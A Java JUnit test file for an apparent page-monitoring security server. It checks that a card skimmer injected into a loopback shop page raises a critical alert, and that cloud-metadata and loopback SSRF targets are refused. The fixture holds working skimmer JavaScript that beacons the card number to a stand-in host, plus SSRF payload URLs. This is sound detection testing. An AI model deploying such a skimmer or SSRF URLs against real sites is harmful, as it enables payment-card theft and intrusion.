package dev.mimamori.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import dev.mimamori.model.Alert;
import dev.mimamori.server.storefront.FlowSecrets;
import dev.mimamori.server.storefront.StorefrontService;
import dev.mimamori.server.tenancy.TenancyService;
import dev.mimamori.server.web.ApiError;
import dev.mimamori.store.TenantScope;
import dev.mimamori.storefront.Chromium;
import java.net.InetSocketAddress;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The scheduled page monitor end to end: a real server whose worker checks a shop page on loopback
 * in real Chromium; a skimmer added to the page becomes a critical alert through the pipeline; the
 * script inventory takes approvals. The scenario runs once; each test checks one outcome.
 */
class StorefrontMonitorTest {
  @TempDir static Path dir;
  static MimamoriRuntime rt;
  static TestHttp http;
  static String admin;
  static HttpServer shop;
  static HttpServer skimmer;
  static final Map<String, String> PAGES = new ConcurrentHashMap<>();
  static String site;
  static String monitor;
  static JsonNode baselineCheck;
  static JsonNode skimmedCheck;
  static JsonNode scriptsAfterSkim;
  static JsonNode approvedCheck;
  static List<Alert> alerts;

  static final String CLEAN =
      """
      <!doctype html><html><head><script>var shop = 1;</script>%s</head><body>
      <form action="/shopping/confirm" method="post">
        <input name="card_no" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc">
      </form></body></html>
      """;

  @BeforeAll
  static void start() throws Exception {
    rt =
        MimamoriRuntime.start(
            ServerFixture.config(dir.resolve("data"), ServerFixture.writeLog(dir), null)
                .withPageMonitors(new ServerConfig.PageMonitors(1, true)),
            Clock.systemUTC(),
            ServerFixture.ADMIN_PASSWORD);
    http = new TestHttp(rt.port());
    admin = http.token("admin", ServerFixture.ADMIN_PASSWORD);
    site =
        send("POST", "/api/v1/tenants/shop-a/sites", "{\"name\":\"furusato\"}", 201)
            .get("id")
            .asText();
    if (!Chromium.available()) {
      return;
    }
    shop = server("127.0.0.1");
    skimmer = server("127.0.0.2");
    PAGES.put("/shopping", CLEAN.formatted(""));
    PAGES.put(
        "/skim.js",
        "document.addEventListener('change', () => { const c ="
            + " document.querySelector('[name=card_no]').value; if (c.length >= 16) {"
            + " navigator.sendBeacon('"
            + origin(skimmer)
            + "/c', c); } }, true);");
    monitor =
        send(
                "POST",
                "/api/v1/sites/" + site + "/page-monitors",
                "{\"name\":\"checkout\",\"url\":\""
                    + origin(shop)
                    + "/shopping\",\"interval_seconds\":3600}",
                201)
            .get("id")
            .asText();
    baselineCheck = awaitCheck(null);

    PAGES.put(
        "/shopping", CLEAN.formatted("<script src=\"" + origin(skimmer) + "/skim.js\"></script>"));
    send("POST", "/api/v1/page-monitors/" + monitor + "/check", "{}", 202);
    skimmedCheck = awaitCheck(baselineCheck.get("last_check_at").asText());
    rt.pipeline().flush(Duration.ofSeconds(10));
    alerts =
        rt.store()
            .incidents()
            .alertsOfRules(TenantScope.of("shop-a"), "mm-storefront-", 20, 0)
            .items();
    scriptsAfterSkim = get("/api/v1/page-monitors/" + monitor + "/scripts");

    String skim = origin(skimmer) + "/skim.js";
    String hash = "";
    for (JsonNode s : scriptsAfterSkim.get("items")) {
      if (s.get("script").asText().equals(skim)) {
        hash = s.get("hash").asText();
      }
    }
    send(
        "POST",
        "/api/v1/page-monitors/" + monitor + "/scripts/decision",
        "{\"script\":\""
            + skim
            + "\",\"hash\":\""
            + hash
            + "\",\"decision\":\"approved\",\"justification\":\"payment widget (ticket 42)\"}",
        204);
    send("POST", "/api/v1/page-monitors/" + monitor + "/check", "{}", 202);
    approvedCheck = awaitCheck(skimmedCheck.get("last_check_at").asText());
  }

  @AfterAll
  static void stop() {
    if (rt != null) {
      rt.close();
    }
    if (shop != null) {
      shop.stop(0);
      skimmer.stop(0);
    }
  }

  static HttpServer server(String address) throws Exception {
    HttpServer s = HttpServer.create(new InetSocketAddress(address, 0), 0);
    s.createContext(
        "/",
        ex -> {
          ex.getRequestBody().readAllBytes();
          String page = PAGES.getOrDefault(ex.getRequestURI().getPath(), "");
          byte[] body = page.getBytes(StandardCharsets.UTF_8);
          ex.getResponseHeaders()
              .add("Content-Type", page.startsWith("<") ? "text/html" : "text/javascript");
          ex.getResponseHeaders().add("Access-Control-Allow-Origin", "*");
          ex.sendResponseHeaders(200, body.length);
          ex.getResponseBody().write(body);
          ex.close();
        });
    s.start();
    return s;
  }

  static String origin(HttpServer s) {
    return "http://"
        + s.getAddress().getAddress().getHostAddress()
        + ":"
        + s.getAddress().getPort();
  }

  static JsonNode send(String method, String path, String body, int expect) {
    HttpResponse<String> r = http.sendJson(method, path, body, "Authorization", "Bearer " + admin);
    assertThat(r.statusCode()).as(method + " " + path + " " + r.body()).isEqualTo(expect);
    return r.body().isEmpty() ? TestHttp.JSON.createObjectNode() : TestHttp.json(r);
  }

  static JsonNode get(String path) {
    return TestHttp.json(http.get(path, "Authorization", "Bearer " + admin));
  }

  /** Waits for a check later than {@code after} (an instant as the API writes it, or null). */
  static JsonNode awaitCheck(String after) throws InterruptedException {
    long deadline = System.nanoTime() + Duration.ofSeconds(120).toNanos();
    while (System.nanoTime() < deadline) {
      JsonNode m = get("/api/v1/page-monitors/" + monitor);
      String at = m.path("last_check_at").asText("");
      if (!at.isEmpty() && !"null".equals(at) && !at.equals(after)) {
        return m;
      }
      Thread.sleep(250);
    }
    throw new AssertionError("no page check within 120 s");
  }

  // --- the scenario in a real browser ---------------------------------------------------------

  @Test
  void firstCheckTakesTheBaseline() {
    assumeTrue(Chromium.available(), "needs Chromium");
    assertThat(baselineCheck.get("last_status").asText()).isEqualTo("baseline");
  }

  @Test
  void skimmerAddedLaterIsAFinding() {
    assumeTrue(Chromium.available(), "needs Chromium");
    assertThat(skimmedCheck.get("last_status").asText()).isEqualTo("findings");
  }

  @Test
  void skimmerSendingTheCardIsACriticalAlertThroughThePipeline() {
    assumeTrue(Chromium.available(), "needs Chromium");
    assertThat(alerts)
        .filteredOn(a -> a.ruleId().equals("mm-storefront-card-data-sent"))
        .extracting(a -> a.severity().label())
        .containsExactly("critical");
  }

  @Test
  void newScriptAlertNamesTheSkimmerHost() {
    assumeTrue(Chromium.available(), "needs Chromium");
    List<String> hosts = new java.util.ArrayList<>();
    for (JsonNode f : skimmedCheck.get("last_findings")) {
      if (f.get("kind").asText().equals("new_script")) {
        hosts.add(f.get("host").asText());
      }
    }
    assertThat(hosts).containsExactly("127.0.0.2");
  }

  @Test
  void skimmerIsInTheScriptInventoryPendingReview() {
    assumeTrue(Chromium.available(), "needs Chromium");
    JsonNode skim = null;
    for (JsonNode s : scriptsAfterSkim.get("items")) {
      if (s.get("script").asText().endsWith("/skim.js")) {
        skim = s;
      }
    }
    assertThat(skim).isNotNull();
    assertThat(skim.get("decision").asText()).isEqualTo("pending");
  }

  @Test
  void approvedScriptNoLongerCountsAsNew() {
    assumeTrue(Chromium.available(), "needs Chromium");
    assertThat(approvedCheck.get("last_findings").findValuesAsText("kind"))
        .doesNotContain("new_script")
        .contains("sensitive_data_sent");
  }

  // --- configuration, no browser needed -------------------------------------------------------

  @Test
  void monitorOfTheCloudMetadataAddressIsRefused() {
    HttpResponse<String> r =
        http.sendJson(
            "POST",
            "/api/v1/sites/" + site + "/page-monitors",
            "{\"url\":\"http://169.254.169.254/latest/meta-data/\"}",
            "Authorization",
            "Bearer " + admin);
    assertThat(r.statusCode() + " " + r.body()).startsWith("400").contains("metadata");
  }

  @Test
  void brokenFlowIsRefusedNamingTheStep() {
    HttpResponse<String> r =
        http.sendJson(
            "POST",
            "/api/v1/sites/" + site + "/page-monitors",
            "{\"url\":\"https://shop.example.jp/\",\"flow\":\"steps:\\n  - open: /\\n  - shell: ls\\n\"}",
            "Authorization",
            "Bearer " + admin);
    assertThat(r.statusCode() + " " + r.body()).startsWith("400").contains("flow step 2");
  }

  @Test
  void flowVariablesAreNeverShownBack() {
    JsonNode m =
        send(
            "POST",
            "/api/v1/sites/" + site + "/page-monitors",
            "{\"url\":\"https://shop.example.jp/mypage\",\"enabled\":false,"
                + "\"flow\":\"steps:\\n  - type: { into: '#pw', text: '${password}' }\\n\","
                + "\"flow_vars\":{\"password\":\"Sup3r-Secret-Pw\"}}",
            201);
    String again =
        http.get(
                "/api/v1/page-monitors/" + m.get("id").asText(), "Authorization", "Bearer " + admin)
            .body();
    assertThat(again).contains("\"has_flow_vars\":true").doesNotContain("Sup3r-Secret-Pw");
  }

  @Test
  void flowVariablesAreStoredEncrypted() {
    JsonNode m =
        send(
            "POST",
            "/api/v1/sites/" + site + "/page-monitors",
            "{\"url\":\"https://shop.example.jp/mypage\",\"enabled\":false,"
                + "\"flow\":\"steps:\\n  - type: { into: '#pw', text: '${password}' }\\n\","
                + "\"flow_vars\":{\"password\":\"Sup3r-Secret-Pw\"}}",
            201);
    assertThat(rt.store().pageMonitors().flowSecret(m.get("id").asText()).orElseThrow())
        .doesNotContain("Sup3r-Secret-Pw");
  }

  @Test
  void approvalWithoutJustificationIsRefused() {
    JsonNode m =
        send(
            "POST",
            "/api/v1/sites/" + site + "/page-monitors",
            "{\"url\":\"https://shop.example.jp/cart\",\"enabled\":false}",
            201);
    HttpResponse<String> r =
        http.sendJson(
            "POST",
            "/api/v1/page-monitors/" + m.get("id").asText() + "/scripts/decision",
            "{\"script\":\"x\",\"hash\":\"y\",\"decision\":\"approved\"}",
            "Authorization",
            "Bearer " + admin);
    assertThat(r.statusCode() + " " + r.body()).startsWith("400").contains("justification");
  }

  @Test
  void hostPolicyIsReadBackNormalized() {
    send(
        "PUT",
        "/api/v1/sites/" + site + "/storefront-policy",
        "{\"payment_hosts\":[\"API.Pay.example\"],\"allowed_hosts\":[\"*.cdn.example\"]}",
        200);
    assertThat(get("/api/v1/sites/" + site + "/storefront-policy").toString())
        .isEqualTo(
            "{\"payment_hosts\":[\"api.pay.example\"],\"allowed_hosts\":[\"*.cdn.example\"]}");
  }

  @Test
  void loopbackTargetIsRefusedWhenPrivateTargetsAreNotAllowed() throws Exception {
    StorefrontService strict =
        new StorefrontService(
            rt.store(),
            new TenancyService(rt.store()),
            new FlowSecrets(dev.mimamori.server.account.SecretBox.open(dir.resolve("data"), null)),
            false);
    var adminUser = rt.store().users().authenticate("admin", ServerFixture.ADMIN_PASSWORD);
    assertThatThrownBy(
            () ->
                strict.create(
                    adminUser.orElseThrow(),
                    site,
                    new StorefrontService.MonitorRequest(
                        null, "http://127.0.0.1:8080/", null, null, null, false)))
        .isInstanceOf(ApiError.class)
        .hasMessageContaining("loopback or private");
  }

  @Test
  void hostGivenAsABareNumberIsRefused() {
    HttpResponse<String> r =
        http.sendJson(
            "POST",
            "/api/v1/sites/" + site + "/page-monitors",
            "{\"url\":\"http://2852039166/latest/meta-data/\"}",
            "Authorization",
            "Bearer " + admin);
    assertThat(r.statusCode() + " " + r.body()).startsWith("400").contains("bare number");
  }

  @Test
  void flowOpeningTheMetadataAddressIsRefused() {
    HttpResponse<String> r =
        http.sendJson(
            "POST",
            "/api/v1/sites/" + site + "/page-monitors",
            "{\"url\":\"https://shop.example.jp/\",\"flow\":\"steps:\\n  - open: http://169.254.169.254/\\n\"}",
            "Authorization",
            "Bearer " + admin);
    assertThat(r.statusCode() + " " + r.body()).startsWith("400").contains("metadata");
  }

  @Test
  void movingAMonitorWithAStoredPasswordToAnotherHostNeedsTheVariablesAgain() {
    JsonNode m =
        send(
            "POST",
            "/api/v1/sites/" + site + "/page-monitors",
            "{\"url\":\"https://shop.example.jp/mypage\",\"enabled\":false,"
                + "\"flow\":\"steps:\\n  - type: { into: '#pw', text: '${password}' }\\n\","
                + "\"flow_vars\":{\"password\":\"Sup3r-Secret-Pw\"}}",
            201);
    HttpResponse<String> r =
        http.sendJson(
            "PATCH",
            "/api/v1/page-monitors/" + m.get("id").asText(),
            "{\"url\":\"https://elsewhere.example/mypage\"}",
            "Authorization",
            "Bearer " + admin);
    assertThat(r.statusCode() + " " + r.body()).startsWith("400").contains("flow_vars again");
  }
}
